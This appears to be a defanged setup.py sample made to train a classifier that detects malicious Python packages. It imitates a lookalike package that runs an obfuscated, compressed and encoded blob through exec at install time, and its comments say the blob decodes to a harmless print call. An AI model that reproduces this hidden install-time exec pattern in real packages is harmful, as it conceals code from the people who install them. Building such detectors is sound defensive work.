# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
# Every encoded blob below decodes to a harmless placeholder (a print call).
from setuptools import setup
import base64, zlib
exec(zlib.decompress(base64.b85decode('c$~}3Eyyn_Q7En~<|-)4%q!7Q&q&S5$yZ1#%Fk8T0g3As<Rq4)<rn2@asf$&Oohxmg`&i~^i&OFO)D-1Ab@Dh)a1$>8HND>KtN?R')))
setup(name="pyautogui-helper", version="1.0.3", packages=["pyautogui_helper"])
